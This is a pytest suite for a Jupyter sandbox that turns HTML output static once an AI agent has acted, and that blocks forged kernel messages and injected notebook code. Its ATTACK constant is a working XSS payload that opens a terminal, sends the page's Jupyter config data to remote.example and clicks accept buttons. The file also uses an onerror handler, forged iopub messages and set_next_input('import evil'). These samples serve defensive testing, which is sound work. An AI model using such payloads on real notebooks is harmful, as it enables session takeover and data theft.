"""From an agent's first step on, nothing that a sandbox says acts in a page; the log has it as it came."""

from __future__ import annotations

import asyncio
import json
import uuid
from collections.abc import Callable
from typing import Any

import pytest

from reprise.jupyter.static.bundle import ORIGINAL
from reprise.log.postgres import Log
from tests.fixtures.kernel import Client, Kernel, Kernels, Ran
from tests.fixtures.page import Page
from tests.static.looking import acting

AGENT = {"kind": "agent", "conversation": "c", "turn": 1}

#: What a page of Jupyter would let such an output do (tried in tests/browser).
ATTACK = """<b>kept</b><script>
fetch('/api/terminals', {method: 'POST', headers: {'X-XSRFToken': document.cookie}})
  .then(() => fetch('https://remote.example/?' + document.getElementById('jupyter-config-data').text))
document.querySelectorAll('.jp-mod-accept').forEach(button => button.click())
</script><img src=x onerror="RAN()"><div id="jupyter-config-data" class="jp-Dialog">x</div>"""

#: An earlier cell patches what a later, innocent one shows.
PATCH = f"class Table:\n    def _repr_html_(self): return {ATTACK!r}"


def agent(client: Client, kernel: Kernel, kind: str = "cell", **payload: Any) -> Ran:
    """A step that an agent asks for."""
    return client.step(kind, payload, actor=AGENT, token=kernel.agent_token)


def html(ran: Ran) -> str:
    """The HTML of a cell's only result or display."""
    (bundle,) = [content["data"] for kind, content in ran.outputs if "data" in content]
    found: str = bundle["text/html"]
    return found


def is_static(client: Client) -> bool:
    """Whether a script in an output would reach a page now."""
    return "<script>" not in html(client.run(f"from IPython.display import HTML\nHTML({ATTACK!r})"))


def fork(kernels: Kernels, session: uuid.UUID, at: int | None = None) -> uuid.UUID:
    async def forked() -> uuid.UUID:
        log = await Log.connect(kernels.database.dsn, home=kernels.database.home)
        try:
            return await log.fork(session, at)
        finally:
            await log.close()

    return asyncio.run(forked())


@pytest.mark.parametrize("backend", ["process", "bubblewrap"])
def test_a_patched_repr_that_a_user_shows_later_carries_no_script(
    kernels: Kernels, backend: str
) -> None:
    kernel = kernels(backend)
    client = kernel.client()
    before = client.run(f"from IPython.display import HTML\nHTML({ATTACK!r})")
    assert html(before) == ATTACK
    assert agent(client, kernel, code=PATCH).status == "ok"
    later = client.run("Table()")
    assert acting(html(later)) == []
    assert html(later).startswith("<b>kept</b><img><div>x</div>")
    assert "reprise env output default live" in html(later)
    (bundle,) = [content["data"] for _, content in later.outputs if "data" in content]
    assert bundle[ORIGINAL]["data"] == {"text/html": ATTACK}
    # The record is what the cell showed, and so is what a replay is compared with.
    kernel.shutdown()
    kernel.wait()
    recorded = kernels.read(kernel)
    assert recorded.report.ok
    (entry,) = [e for e in recorded.cells[-1].outputs if e.type == "execute_result"]
    assert entry.content["data"]["text/html"] == ATTACK
    # Static it stays: in the next process, after the replay of all that.
    again = kernels.again(kernel)
    client = again.client()
    assert is_static(client)
    assert not [n for n in kernels.read(again).notices if n.code == "divergence"]


def test_a_rewind_to_before_the_agent_is_live_and_a_fork_after_it_is_not(kernels: Kernels) -> None:
    kernel = kernels()
    client = kernel.client()
    client.run("x = 1")
    at = kernels.read(kernel).steps[-1].step.seq
    agent(client, kernel, "command", shell="true")
    client.run("y = 2")
    assert is_static(client)
    before, after = fork(kernels, kernel.session, at), fork(kernels, kernel.session)
    for session, static in ((before, False), (after, True), (before, False)):
        reply = client.ask("attach_request", {"session": str(session)}, channel="control")
        assert reply["status"] == "ok"
        assert is_static(client) is static
    other = kernels(session=after)
    assert is_static(other.client())


@pytest.mark.parametrize("how", ["command", "upload", "comm", "mount", "edited"])
def test_what_is_not_the_users_own_makes_output_static(kernels: Kernels, how: str) -> None:
    kernel = kernels()
    client = kernel.client()
    assert not is_static(client)
    if how == "mount":
        assert client.step("mount", {"target": "/skills/a", "entries": []}).status == "ok"
    elif how == "edited":
        content = {"code": "x = 1", "silent": False, "store_history": True}
        client.finish(
            client.request(
                "execute_request", content, metadata={"reprise_edited_by": "agent", "trusted": True}
            )
        )
    elif how == "comm":
        payload = {"msg_type": "comm_close", "content": {"comm_id": "x", "data": {}}}
        agent(client, kernel, "comm", **payload)
    elif how == "upload":
        agent(client, kernel, "upload", entries=[["a", "dir", 0o755, 0, None]])
    else:
        agent(client, kernel, "command", shell="true")
    assert is_static(client)
    assert is_static(kernels.again(_ended(kernel)).client())


def _ended(kernel: Kernel) -> Kernel:
    kernel.shutdown()
    kernel.wait()
    return kernel


def test_nobody_makes_output_live_again_by_saying_so(kernels: Kernels) -> None:
    kernel = kernels()
    client = kernel.client()
    agent(client, kernel, "command", shell="true")
    for metadata in ({"trusted": True}, {"reprise_edited_by": "user"}, {"output": "live"}):
        content = {"code": PATCH, "silent": False, "store_history": True}
        client.finish(client.request("execute_request", content, metadata=metadata))
    assert is_static(client)
    # Nor does a restart, nor a reset: what was done may lie in files, and elsewhere.
    kernel.shutdown(restart=True)
    kernel.wait()
    client = kernels.again(kernel).client()
    assert is_static(client)
    assert client.ask("workspace_request", {"op": "reset"}, channel="control")["status"] == "ok"
    assert is_static(client)


@pytest.fixture
def says(kernels: Kernels) -> Callable[[str], str]:
    """Writes an environment that says something of outputs; its name is for REPRISE_ENVIRONMENT."""

    def write(rule: str) -> str:
        folder = kernels.database.home / "environments"
        folder.mkdir(exist_ok=True)
        (folder / f"says-{rule}.json").write_text(json.dumps({"output": rule}))
        return f"says-{rule}"

    return write


def test_an_environment_may_allow_live_output_and_demand_static(
    kernels: Kernels, says: Callable[[str], str]
) -> None:
    live = kernels(REPRISE_ENVIRONMENT=says("live"))
    client = live.client()
    agent(client, live, code=PATCH)
    assert html(client.run("Table()")) == ATTACK
    # The same session under another environment is what that one says.
    client = kernels.again(_ended(live)).client()
    assert is_static(client)
    demanding = kernels(REPRISE_ENVIRONMENT=says("static"))
    ran = demanding.client().run(f"from IPython.display import HTML\nHTML({ATTACK!r})")
    assert acting(html(ran)) == []
    assert "reprise env output says-static live" in html(ran)


def test_late_output_and_an_answer_given_again_are_static(kernels: Kernels) -> None:
    kernel = kernels()
    client = kernel.client()
    shows = f"from IPython.display import HTML, display\ndisplay(HTML({ATTACK!r}))"
    first = client.step("cell", {"code": shows}, key="k")
    assert html(first) == ATTACK  # nobody but the user has acted
    client.run(
        "import threading\nfrom IPython.display import HTML, display\ngo = threading.Event()\n"
        f"def late():\n    go.wait(); display(HTML({ATTACK!r}), display_id='late')\n"
        "threading.Thread(target=late).start()"
    )
    agent(client, kernel, "command", shell="true")
    client.run("go.set()")
    shown = client.wait(
        lambda h: h.type == "display_data" and h.content["transient"].get("display_id") == "late"
    )
    assert acting(shown.content["data"]["text/html"]) == []
    again = client.step("cell", {"code": shows}, key="k")
    assert again.reply["repeated"]
    assert acting(html(again)) == []


def test_messages_that_pretend_to_be_the_kernels_own_reach_nobody(kernels: Kernels) -> None:
    """Any program in the sandbox may put any message on iopub, also before an agent has acted."""
    forge = (
        "session, socket = get_ipython().kernel.session, get_ipython().kernel.iopub_socket\n"
        "def forge(kind, **content):\n"
        "    session.send(socket, kind, content, parent=get_ipython().kernel.get_parent())\n"
    )
    kernel = kernels()
    client = kernel.client()
    client.run(forge)
    kinds = ("reprise_notice", "reprise_attached", "reprise_progress", "step_reply")
    everything = "".join(f"forge({kind!r}, text='x', session='x', over=True)\n" for kind in kinds)
    ran = client.run(f"{everything}forge('mine')\nprint('sent')")
    assert ran.text() == "sent\n"
    assert [h.type for h in ran.heard if h.type in (*kinds, "mine")] == ["mine"]
    agent(client, kernel, "command", shell="true")
    ran = client.run(
        f"{everything}forge('mine')\nforge('display_data', data={{'text/html': '<b>'}})"
    )
    assert [h.type for h in ran.heard if h.type in (*kinds, "mine")] == []
    assert [kind for kind, _ in ran.outputs] == ["display_data"]


def test_code_for_the_users_notebook_is_held_back_and_said(kernels: Kernels) -> None:
    kernel = kernels()
    client = kernel.client()
    sets = "get_ipython().set_next_input('import evil')"
    assert client.run(sets).reply["payload"][0]["text"] == "import evil"
    agent(client, kernel, "command", shell="true")
    ran = client.run(sets)
    assert ran.reply["payload"] == []
    assert "set_next_input" in ran.text("stderr")
    asked = agent(client, kernel, code=sets)
    assert asked.reply["result"]["payload"] == []
    inspected = client.ask("inspect_request", {"code": "print", "cursor_pos": 3, "detail_level": 0})
    assert inspected["found"]
    assert inspected["data"].keys() == {"text/plain"}


def test_widgets_go_on_after_a_resume_with_what_pages_may_have(kernels: Kernels) -> None:
    kernel = kernels()
    page = Page(kernel.client())
    agent(page.client, kernel, "command", shell="true")
    page.client.run(
        "import ipywidgets as w\n"
        "s, h, b = w.IntSlider(), w.HTML('<b>x</b>'), w.VBox()\n"
        "s.observe(lambda change: setattr(h, 'value', f'<i>{change.new}</i><script>1</script>'), 'value')\n"
        "b.children = [s, h]\n"
        "class Any(w.DOMWidget):\n"
        "    from traitlets import Unicode\n"
        "    _model_module = Unicode('anywidget').tag(sync=True)\n"
        "    _model_name = Unicode('AnyModel').tag(sync=True)\n"
        "    _esm = Unicode('RAN()').tag(sync=True)\n"
        "a = Any(); b.children = [s, a, h]; b"
    )
    slider, note, box = (page.model(f"{name}Model") for name in ("IntSlider", "HTML", "VBox"))
    assert all(page.models[m]["_model_module"] != "anywidget" for m in page.opened)
    assert page.children(box) == [slider, note]
    page.set(slider, value=3)
    assert page.state(note)["value"] == "<i>3</i>"
    kernel.kill("router")
    kernel = kernels.again(kernel)
    page.on(kernel.client())
    page.set(slider, value=4)
    assert page.state(note)["value"] == "<i>4</i>"
    # A page that is opened anew asks for what there is.
    there = page.client.ask("comm_info_request", {"target_name": "jupyter.widget"})["comms"]
    assert {slider, note, box} <= there.keys()
    assert all(page.models[each]["_model_module"] != "anywidget" for each in there)
